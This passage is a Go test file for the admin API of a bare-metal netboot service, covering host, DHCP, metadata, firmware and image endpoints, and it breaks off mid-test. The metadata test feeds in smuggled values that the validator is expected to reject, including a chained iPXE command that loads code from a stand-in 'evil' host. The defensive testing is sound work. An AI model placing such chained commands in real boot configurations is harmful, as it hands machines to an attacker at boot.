@@ -0,0 +1,1088 @@
+package admin
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/go-logr/logr"
+	"github.com/insomniacslk/dhcp/dhcpv4"
+	"github.com/metal3-community/metal-boot/internal/adminauth"
+	"github.com/metal3-community/metal-boot/internal/audit"
+	"github.com/metal3-community/metal-boot/internal/backend/dnsmasq"
+	dnsmasqconfig "github.com/metal3-community/metal-boot/internal/backend/dnsmasq/config"
+	"github.com/metal3-community/metal-boot/internal/backup"
+	"github.com/metal3-community/metal-boot/internal/canary"
+	"github.com/metal3-community/metal-boot/internal/config"
+	"github.com/metal3-community/metal-boot/internal/decommission"
+	"github.com/metal3-community/metal-boot/internal/dhcp/data"
+	"github.com/metal3-community/metal-boot/internal/gpufw"
+	"github.com/metal3-community/metal-boot/internal/hoststate"
+	"github.com/metal3-community/metal-boot/internal/imagecatalog"
+	"github.com/metal3-community/metal-boot/internal/ipxe/binary"
+	"github.com/metal3-community/metal-boot/internal/leasedb"
+	"github.com/metal3-community/metal-boot/internal/logging"
+	"github.com/metal3-community/metal-boot/internal/metric"
+	"github.com/metal3-community/metal-boot/internal/readonly"
+	"github.com/metal3-community/metal-boot/internal/snapshot"
+	"github.com/metal3-community/metal-boot/internal/task"
+	"github.com/metal3-community/uefi-firmware-manager/edk2"
+)
+
+func newTestHandler(t *testing.T) http.Handler {
+	t.Helper()
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	return New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+}
+
+func TestKernelArgs(t *testing.T) {
+	h := newTestHandler(t)
+	path := "/api/v1/systems/aa:bb:cc:dd:ee:ff/kernel-args"
+
+	tests := []struct {
+		name   string
+		method string
+		body   string
+		want   int
+	}{
+		{name: "put", method: http.MethodPut, body: `{"add":["debug"],"remove":["quiet"]}`, want: http.StatusOK},
+		{name: "put invalid", method: http.MethodPut, body: `{"add":["a b"]}`, want: http.StatusBadRequest},
+		{name: "get", method: http.MethodGet, want: http.StatusOK},
+		{name: "delete", method: http.MethodDelete, want: http.StatusNoContent},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.name == "get" {
+				var got hoststate.KernelArgs
+				if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+					t.Fatalf("decode error = %v", err)
+				}
+				if len(got.Add) != 1 || got.Add[0] != "debug" {
+					t.Errorf("get = %+v, want add [debug]", got)
+				}
+			}
+		})
+	}
+}
+
+func TestDHCPOptions(t *testing.T) {
+	h := newTestHandler(t)
+	path := "/api/v1/systems/aa:bb:cc:dd:ee:ff/dhcp-options"
+
+	tests := []struct {
+		name   string
+		method string
+		body   string
+		want   int
+		result string
+	}{
+		{name: "put", method: http.MethodPut, body: `[{"code":26,"value":"1500"}]`,
+			want: http.StatusOK, result: `[{"code":26,"value":"1500"}]`},
+		{name: "put invalid", method: http.MethodPut, body: `[{"code":26,"value":"jumbo"}]`,
+			want: http.StatusBadRequest},
+		{name: "put duplicate", method: http.MethodPut,
+			body: `[{"code":43,"value":"01"},{"code":43,"value":"02"}]`,
+			want: http.StatusBadRequest},
+		{name: "get", method: http.MethodGet,
+			want: http.StatusOK, result: `[{"code":26,"value":"1500"}]`},
+		{name: "delete", method: http.MethodDelete, want: http.StatusNoContent},
+		{name: "get cleared", method: http.MethodGet, want: http.StatusOK, result: `[]`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.result != "" && strings.TrimSpace(rec.Body.String()) != tt.result {
+				t.Errorf("body = %s, want %s", rec.Body.String(), tt.result)
+			}
+		})
+	}
+}
+
+func TestMetadata(t *testing.T) {
+	h := newTestHandler(t)
+	path := "/api/v1/systems/aa:bb:cc:dd:ee:ff/metadata"
+
+	tests := []struct {
+		name   string
+		method string
+		path   string
+		body   string
+		want   int
+		result string
+	}{
+		{name: "put", method: http.MethodPut, path: path, body: `{"rack":"r1","owner":"infra"}`,
+			want: http.StatusOK, result: `{"owner":"infra","rack":"r1"}`},
+		{name: "put invalid key", method: http.MethodPut, path: path, body: `{"a b":"c"}`,
+			want: http.StatusBadRequest},
+		{name: "set key", method: http.MethodPut, path: path + "/purchased", body: `"2024-03-01"`,
+			want: http.StatusOK, result: `{"owner":"infra","purchased":"2024-03-01","rack":"r1"}`},
+		{name: "set multi-line value", method: http.MethodPut, path: path + "/rack", body: `"a\nb"`,
+			want: http.StatusBadRequest},
+		{name: "set chained command", method: http.MethodPut, path: path + "/rack", body: `"x && chain http://evil/"`,
+			want: http.StatusBadRequest},
+		{name: "set expansion", method: http.MethodPut, path: path + "/rack", body: `"${net0/ip}"`,
+			want: http.StatusBadRequest},
+		{name: "put comment", method: http.MethodPut, path: path, body: `{"rack":"r1 # x"}`,
+			want: http.StatusBadRequest},
+		{name: "unset key", method: http.MethodDelete, path: path + "/owner", want: http.StatusNoContent},
+		{name: "get", method: http.MethodGet, path: path,
+			want: http.StatusOK, result: `{"purchased":"2024-03-01","rack":"r1"}`},
+		{name: "clear", method: http.MethodDelete, path: path, want: http.StatusNoContent},
+		{name: "get cleared", method: http.MethodGet, path: path, want: http.StatusOK, result: `{}`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.result != "" && strings.TrimSpace(rec.Body.String()) != tt.result {
+				t.Errorf("body = %s, want %s", rec.Body.String(), tt.result)
+			}
+		})
+	}
+}
+
+func TestInvalidMAC(t *testing.T) {
+	h := newTestHandler(t)
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/systems/nope/kernel-args", nil)
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestArtifacts(t *testing.T) {
+	h := newTestHandler(t)
+
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/artifacts", nil))
+	var list []binary.Artifact
+	if err := json.NewDecoder(rec.Body).Decode(&list); err != nil || len(list) == 0 {
+		t.Fatalf("GET artifacts = %d, %v, %v", rec.Code, list, err)
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/artifacts/"+list[0].File, nil))
+	var a binary.Artifact
+	if err := json.NewDecoder(rec.Body).Decode(&a); err != nil || a.SHA256 != list[0].SHA256 {
+		t.Errorf("GET artifact %s = %d, %+v, %v", list[0].File, rec.Code, a, err)
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/artifacts/missing.efi", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("GET unknown artifact = %d, want 404", rec.Code)
+	}
+}
+
+func TestDnsmasqOptions(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	cm, err := dnsmasqconfig.NewConfigManager(logr.Discard(), t.TempDir())
+	if err != nil {
+		t.Fatalf("NewConfigManager() error = %v", err)
+	}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, cm, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+
+	tests := []struct {
+		name   string
+		method string
+		path   string
+		body   string
+		want   int
+	}{
+		{name: "missing tag", method: http.MethodGet, path: "/api/v1/dnsmasq/opts/node-1", want: http.StatusNotFound},
+		{name: "add", method: http.MethodPost, path: "/api/v1/dnsmasq/opts/node-1", body: `{"tags":["node-1"],"code":67,"value":"ipxe.efi"}`, want: http.StatusCreated},
+		{name: "add invalid", method: http.MethodPost, path: "/api/v1/dnsmasq/opts/node-1", body: `{"code":3,"value":"gateway"}`, want: http.StatusBadRequest},
+		{name: "replace", method: http.MethodPut, path: "/api/v1/dnsmasq/opts/node-1", body: `[{"code":66,"value":"10.0.0.1"},{"code":67,"value":"snp.efi"}]`, want: http.StatusOK},
+		{name: "get", method: http.MethodGet, path: "/api/v1/dnsmasq/opts/node-1", want: http.StatusOK},
+		{name: "remove", method: http.MethodDelete, path: "/api/v1/dnsmasq/opts/node-1/66", want: http.StatusNoContent},
+		{name: "remove missing", method: http.MethodDelete, path: "/api/v1/dnsmasq/opts/node-1/66", want: http.StatusNotFound},
+		{name: "delete", method: http.MethodDelete, path: "/api/v1/dnsmasq/opts/node-1", want: http.StatusNoContent},
+		{name: "get config", method: http.MethodGet, path: "/api/v1/dnsmasq/config", want: http.StatusOK},
+		{name: "dry run config", method: http.MethodPut, path: "/api/v1/dnsmasq/config?dry_run=true", body: `{"hosts":[],"options":{"node-2":[{"code":66,"value":"10.0.0.1"}]}}`, want: http.StatusOK},
+		{name: "missing dry run tag", method: http.MethodGet, path: "/api/v1/dnsmasq/opts/node-2", want: http.StatusNotFound},
+		{name: "bad dry run", method: http.MethodPut, path: "/api/v1/dnsmasq/config?dry_run=maybe", body: `{}`, want: http.StatusBadRequest},
+		{name: "invalid config", method: http.MethodPut, path: "/api/v1/dnsmasq/config", body: `{"options":{"a b":[]}}`, want: http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.name == "get" {
+				var got []dnsmasqconfig.DHCPOption
+				if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+					t.Fatalf("decode error = %v", err)
+				}
+				if len(got) != 2 {
+					t.Errorf("get = %+v, want 2 options", got)
+				}
+			}
+		})
+	}
+}
+
+func TestDnsmasqUnavailable(t *testing.T) {
+	h := newTestHandler(t)
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/dnsmasq/hosts", nil)
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if rec.Code != http.StatusNotFound {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+}
+
+func TestHosts(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	b, err := dnsmasq.NewBackend(logr.Discard(), dnsmasq.Config{RootDir: t.TempDir()})
+	if err != nil {
+		t.Fatalf("NewBackend() error = %v", err)
+	}
+	defer b.Close()
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, b, nil, hosts, b.ConfigManager(), nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+
+	tests := []struct {
+		name   string
+		method string
+		path   string
+		body   string
+		want   int
+	}{
+		{name: "missing", method: http.MethodGet, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff", want: http.StatusNotFound},
+		{name: "create", method: http.MethodPost, path: "/api/v1/hosts", body: `{"mac":"aa:bb:cc:dd:ee:ff","ip":"192.168.1.50","options":[{"code":26,"value":"1500"}]}`, want: http.StatusCreated},
+		{name: "create existing", method: http.MethodPost, path: "/api/v1/hosts", body: `{"mac":"aa:bb:cc:dd:ee:ff"}`, want: http.StatusConflict},
+		{name: "create without mac", method: http.MethodPost, path: "/api/v1/hosts", body: `{"ip":"192.168.1.51"}`, want: http.StatusBadRequest},
+		{name: "update", method: http.MethodPut, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff", body: `{"ip":"192.168.1.52","hostname":"node-1"}`, want: http.StatusOK},
+		{name: "update invalid", method: http.MethodPut, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff", body: `{"hostname":"no way"}`, want: http.StatusBadRequest},
+		{name: "update missing", method: http.MethodPut, path: "/api/v1/hosts/11:22:33:44:55:66", body: `{}`, want: http.StatusNotFound},
+		{name: "options", method: http.MethodPut, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff/options", body: `[{"code":66,"value":"10.0.0.1"},{"code":67,"value":"snp.efi"}]`, want: http.StatusOK},
+		{name: "invalid options", method: http.MethodPut, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff/options", body: `[{"code":3,"value":"gateway"}]`, want: http.StatusBadRequest},
+		{name: "get", method: http.MethodGet, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff", want: http.StatusOK},
+		{name: "list", method: http.MethodGet, path: "/api/v1/hosts", want: http.StatusOK},
+		{name: "delete", method: http.MethodDelete, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff", want: http.StatusNoContent},
+		{name: "delete missing", method: http.MethodDelete, path: "/api/v1/hosts/aa:bb:cc:dd:ee:ff", want: http.StatusNotFound},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.name == "get" {
+				var got hostJSON
+				if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+					t.Fatalf("decode error = %v", err)
+				}
+				ip := net.ParseIP("192.168.1.52")
+				if got.Hostname != "node-1" || !got.IP.Equal(ip) || len(got.Options) != 2 {
+					t.Errorf("get = %+v, want node-1 at 192.168.1.52 with 2 options", got)
+				}
+			}
+		})
+	}
+
+	rec := httptest.NewRecorder()
+	newTestHandler(t).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/hosts", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("GET hosts without a host writer = %d, want 404", rec.Code)
+	}
+}
+
+// inventoryBackend is a backend of two hosts, one of which it allows to
+// netboot, that can tell their power state.
+type inventoryBackend struct{}
+
+func (inventoryBackend) GetByMac(
+	_ context.Context,
+	mac net.HardwareAddr,
+) (*data.DHCP, *data.Netboot, error) {
+	switch mac.String() {
+	case "aa:bb:cc:dd:ee:01":
+		d := &data.DHCP{IPAddress: netip.MustParseAddr("10.0.0.1"), Hostname: "node-1", LeaseTime: 60}
+		return d, &data.Netboot{AllowNetboot: true}, nil
+	case "aa:bb:cc:dd:ee:02":
+		return &data.DHCP{IPAddress: netip.MustParseAddr("10.0.0.2"), Hostname: "node-2"}, &data.Netboot{}, nil
+	}
+	return nil, nil, errors.New("not found")
+}
+
+func (inventoryBackend) GetByIP(context.Context, net.IP) (*data.DHCP, *data.Netboot, error) {
+	return nil, nil, errors.New("not found")
+}
+
+func (inventoryBackend) GetKeys(context.Context) ([]net.HardwareAddr, error) {
+	a, _ := net.ParseMAC("aa:bb:cc:dd:ee:02")
+	b, _ := net.ParseMAC("aa:bb:cc:dd:ee:01")
+	return []net.HardwareAddr{a, b}, nil
+}
+
+func (inventoryBackend) GetPower(context.Context, net.HardwareAddr) (*data.PowerState, error) {
+	state := data.PowerOn
+	return &state, nil
+}
+
+func (inventoryBackend) SetPower(context.Context, net.HardwareAddr, data.PowerState) error {
+	return nil
+}
+
+func (inventoryBackend) PowerCycle(context.Context, net.HardwareAddr) error {
+	return nil
+}
+
+func TestInventory(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	mac, _ := net.ParseMAC("aa:bb:cc:dd:ee:03")
+	if err := hosts.SetState(mac, hoststate.StateCleaned, ""); err != nil {
+		t.Fatal(err)
+	}
+	cfg := &config.Config{}
+	cfg.Tftp.RootDirectory = t.TempDir()
+	fw := filepath.Join(cfg.Tftp.RootDirectory, "aa-bb-cc-dd-ee-01", edk2.FirmwareFileName)
+	if err := os.MkdirAll(filepath.Dir(fw), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(fw, edk2.RpiEfi, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	b := inventoryBackend{}
+	h := New(slog.New(slog.DiscardHandler), cfg, b, b, hosts, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+
+	tests := []struct {
+		name  string
+		path  string
+		want  int
+		total int
+		first string
+	}{
+		{name: "all", path: "/api/v1/machines", want: http.StatusOK, total: 3, first: "aa:bb:cc:dd:ee:01"},
+		{name: "page", path: "/api/v1/machines?limit=1&offset=1", want: http.StatusOK, total: 3, first: "aa:bb:cc:dd:ee:02"},
+		{name: "netboot", path: "/api/v1/machines?netboot=false", want: http.StatusOK, total: 2, first: "aa:bb:cc:dd:ee:02"},
+		{name: "state", path: "/api/v1/machines?state=cleaned", want: http.StatusOK, total: 1, first: "aa:bb:cc:dd:ee:03"},
+		{name: "query", path: "/api/v1/machines?q=NODE-2", want: http.StatusOK, total: 1, first: "aa:bb:cc:dd:ee:02"},
+		{name: "bad netboot", path: "/api/v1/machines?netboot=maybe", want: http.StatusBadRequest},
+		{name: "bad limit", path: "/api/v1/machines?limit=0", want: http.StatusBadRequest},
+		{name: "leases", path: "/api/v1/leases", want: http.StatusOK, total: 2, first: "aa:bb:cc:dd:ee:01"},
+		{name: "leases query", path: "/api/v1/leases?q=10.0.0.2", want: http.StatusOK, total: 1, first: "aa:bb:cc:dd:ee:02"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, tt.path, nil))
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.want != http.StatusOK {
+				return
+			}
+			var got page[machine]
+			if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+				t.Fatalf("decode error = %v", err)
+			}
+			if got.Total != tt.total || len(got.Items) == 0 || got.Items[0].MAC != tt.first {
+				t.Errorf("page = %+v, want %d in total starting with %s", got, tt.total, tt.first)
+			}
+		})
+	}
+
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/machines/aa:bb:cc:dd:ee:01", nil))
+	var m machine
+	if err := json.NewDecoder(rec.Body).Decode(&m); err != nil {
+		t.Fatalf("decode error = %v", err)
+	}
+	if !m.Netboot || m.Power != "on" || m.Firmware == nil {
+		t.Errorf("GET machine = %+v, want netboot, power on and firmware", m)
+	}
+
+	rec = httptest.NewRecorder()
+	body := strings.NewReader(`{"enabled":false}`)
+	path := "/api/v1/machines/aa:bb:cc:dd:ee:01/netboot"
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodPut, path, body))
+	if err := json.NewDecoder(rec.Body).Decode(&m); err != nil || m.Netboot || !m.NetbootDisabled {
+		t.Errorf("PUT netboot = %d, %+v, %v, want netboot disabled", rec.Code, m, err)
+	}
+
+	rec = httptest.NewRecorder()
+	path = "/api/v1/machines/aa:bb:cc:dd:ee:02/firmware"
+	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("GET firmware of a host without one = %d, want 404", rec.Code)
+	}
+
+	rec = httptest.NewRecorder()
+	path = "/api/v1/machines/aa:bb:cc:dd:ee:01/power"
+	newTestHandler(t).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("GET power without a power backend = %d, want 404", rec.Code)
+	}
+}
+
+func TestRendered(t *testing.T) {
+	staticRoot, tftpRoot := t.TempDir(), t.TempDir()
+	if err := os.MkdirAll(filepath.Join(staticRoot, "pxelinux.cfg"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	ipxe := "#!ipxe\nkernel http://boot/vmlinuz quiet console=tty0\ninitrd http://boot/initrd\nboot\n"
+	if err := os.WriteFile(
+		filepath.Join(staticRoot, "pxelinux.cfg", "aa-bb-cc-dd-ee-ff"), []byte(ipxe), 0o644,
+	); err != nil {
+		t.Fatal(err)
+	}
+	grub := "linux /vmlinuz\n"
+	if err := os.WriteFile(
+		filepath.Join(tftpRoot, "grub.cfg-01-aa-bb-cc-dd-ee-ff"), []byte(grub), 0o644,
+	); err != nil {
+		t.Fatal(err)
+	}
+
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	mac, _ := net.ParseMAC("aa:bb:cc:dd:ee:ff")
+	if err := hosts.Update(mac, func(h *hoststate.Host) {
+		h.KernelArgs = hoststate.KernelArgs{Add: []string{"debug"}, Remove: []string{"quiet"}}
+	}); err != nil {
+		t.Fatal(err)
+	}
+	cfg := &config.Config{
+		Static: config.StaticConfig{RootDirectory: staticRoot},
+		Tftp:   config.TftpConfig{RootDirectory: tftpRoot},
+	}
+	h := New(slog.New(slog.DiscardHandler), cfg, nil, nil, hosts, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/systems/aa:bb:cc:dd:ee:ff/rendered", nil)
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d: %s", rec.Code, http.StatusOK, rec.Body.String())
+	}
+
+	var got renderedResponse
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode error = %v", err)
+	}
+	if got.IPXE.File != "pxelinux.cfg/aa-bb-cc-dd-ee-ff" || got.IPXE.Profile != "config" {
+		t.Errorf("ipxe = %s (%s), want the node config", got.IPXE.File, got.IPXE.Profile)
+	}
+	if want := "console=tty0 debug"; strings.Join(got.KernelArgs, " ") != want {
+		t.Errorf("kernelArgs = %v, want %q", got.KernelArgs, want)
+	}
+	if got.Grub == nil || got.Grub.Content != grub {
+		t.Errorf("grub = %+v, want %q", got.Grub, grub)
+	}
+
+	req = httptest.NewRequest(
+		http.MethodGet, "/api/v1/systems/aa:bb:cc:dd:ee:ff/rendered/boot.ipxe", nil,
+	)
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if !strings.Contains(rec.Body.String(), "console=tty0 debug") {
+		t.Errorf("boot.ipxe = %q, want overridden kernel args", rec.Body.String())
+	}
+}
+
+func TestGPUFirmware(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	gpu, err := gpufw.NewStore(t.TempDir(), "")
+	if err != nil {
+		t.Fatalf("gpufw.NewStore() error = %v", err)
+	}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, gpu, nil, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+
+	tests := []struct {
+		name   string
+		method string
+		path   string
+		body   string
+		want   int
+	}{
+		{name: "upload", method: http.MethodPut, path: "/api/v1/gpu-firmware/versions/2025-01/files/start4.elf", body: "elf", want: http.StatusOK},
+		{name: "upload unknown file", method: http.MethodPut, path: "/api/v1/gpu-firmware/versions/2025-01/files/kernel8.img", body: "img", want: http.StatusBadRequest},
+		{name: "get version", method: http.MethodGet, path: "/api/v1/gpu-firmware/versions/2025-01", want: http.StatusOK},
+		{name: "pin missing version", method: http.MethodPut, path: "/api/v1/gpu-firmware/groups/rack-1", body: `{"version":"nope"}`, want: http.StatusNotFound},
+		{name: "pin", method: http.MethodPut, path: "/api/v1/gpu-firmware/groups/rack-1", body: `{"version":"2025-01","hosts":["AA:BB:CC:DD:EE:FF"]}`, want: http.StatusOK},
+		{name: "selection", method: http.MethodGet, path: "/api/v1/systems/aa:bb:cc:dd:ee:ff/gpu-firmware", want: http.StatusOK},
+		{name: "remove pinned version", method: http.MethodDelete, path: "/api/v1/gpu-firmware/versions/2025-01", want: http.StatusConflict},
+		{name: "delete default group", method: http.MethodDelete, path: "/api/v1/gpu-firmware/groups/default", want: http.StatusBadRequest},
+		{name: "delete group", method: http.MethodDelete, path: "/api/v1/gpu-firmware/groups/rack-1", want: http.StatusNoContent},
+		{name: "remove version", method: http.MethodDelete, path: "/api/v1/gpu-firmware/versions/2025-01", want: http.StatusNoContent},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.name == "selection" {
+				var got gpuFirmwareSelection
+				if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+					t.Fatalf("decode error = %v", err)
+				}
+				if got.Group != "rack-1" || got.Version != "2025-01" {
+					t.Errorf("selection = %+v, want rack-1/2025-01", got)
+				}
+			}
+		})
+	}
+}
+
+func TestImages(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	images, err := imagecatalog.New(filepath.Join(t.TempDir(), "images.json"))
+	if err != nil {
+		t.Fatalf("imagecatalog.New() error = %v", err)
+	}
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, images, nil, nil, nil, nil, nil, nil, nil, nil, nil)
+
+	tests := []struct {
+		name   string
+		method string
+		path   string
+		body   string
+		want   int
+	}{
+		{name: "create", method: http.MethodPost, path: "/api/v1/images", body: `{"name":"ubuntu-iso","kind":"iso","url":"https://example.com/ubuntu.iso","arch":"amd64"}`, want: http.StatusCreated},
+		{name: "create taken name", method: http.MethodPost, path: "/api/v1/images", body: `{"name":"ubuntu-iso","kind":"iso","url":"https://example.com/other.iso"}`, want: http.StatusConflict},
+		{name: "create invalid kind", method: http.MethodPost, path: "/api/v1/images", body: `{"name":"x","kind":"floppy","url":"https://example.com/x"}`, want: http.StatusBadRequest},
+		{name: "put url and oci ref", method: http.MethodPut, path: "/api/v1/images/talos", body: `{"kind":"talos","url":"https://factory.talos.dev","ociRef":"ghcr.io/siderolabs/installer:v1.9.0"}`, want: http.StatusBadRequest},
+		{name: "put new", method: http.MethodPut, path: "/api/v1/images/talos", body: `{"kind":"talos","url":"https://factory.talos.dev"}`, want: http.StatusCreated},
+		{name: "put existing", method: http.MethodPut, path: "/api/v1/images/ubuntu-iso", body: `{"kind":"iso","url":"https://example.com/ubuntu-24.04.iso","checksum":"sha256:` + strings.Repeat("ab", 32) + `"}`, want: http.StatusOK},
+		{name: "get", method: http.MethodGet, path: "/api/v1/images/ubuntu-iso", want: http.StatusOK},
+		{name: "list", method: http.MethodGet, path: "/api/v1/images", want: http.StatusOK},
+		{name: "delete", method: http.MethodDelete, path: "/api/v1/images/talos", want: http.StatusNoContent},
+		{name: "delete missing", method: http.MethodDelete, path: "/api/v1/images/talos", want: http.StatusNotFound},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.path, strings.NewReader(tt.body))
+			rec := httptest.NewRecorder()
+			h.ServeHTTP(rec, req)
+			if rec.Code != tt.want {
+				t.Fatalf("status = %d, want %d: %s", rec.Code, tt.want, rec.Body.String())
+			}
+			if tt.name == "get" {
+				var got imagecatalog.Image
+				if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+					t.Fatalf("decode error = %v", err)
+				}
+				if got.URL != "https://example.com/ubuntu-24.04.iso" || got.Arch != "" {
+					t.Errorf("image = %+v, want it replaced", got)
+				}
+			}
+		})
+	}
+}
+
+func TestRollouts(t *testing.T) {
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	mac, _ := net.ParseMAC("d8:3a:dd:01:02:03")
+	if err := hosts.Update(mac, func(h *hoststate.Host) {
+		h.Metadata = map[string]string{"rack": "r1"}
+	}); err != nil {
+		t.Fatalf("Update() error = %v", err)
+	}
+	images, _ := imagecatalog.New("")
+	for _, img := range []imagecatalog.Image{
+		{Name: "ipa-kernel", Kind: imagecatalog.KindKernel, URL: "https://x/ipa-1/vmlinuz"},
+		{Name: "ipa-kernel-2", Kind: imagecatalog.KindKernel, URL: "https://x/ipa-2/vmlinuz"},
+	} {
+		if _, err := images.Create(img); err != nil {
+			t.Fatalf("Create() error = %v", err)
+		}
+	}
+	rollouts, _ := canary.New("")
+	h := New(slog.New(slog.DiscardHandler), &config.Config{}, nil, nil, hosts, nil, nil, images, nil, nil, nil, nil, rollouts, nil, nil, nil, nil)
+
+	tests := []struct {
+		name    string
+		method  string
+		path    string
+		body    string
+		want    int
+		wantIn  bool
+		checkIn bool
+	}{
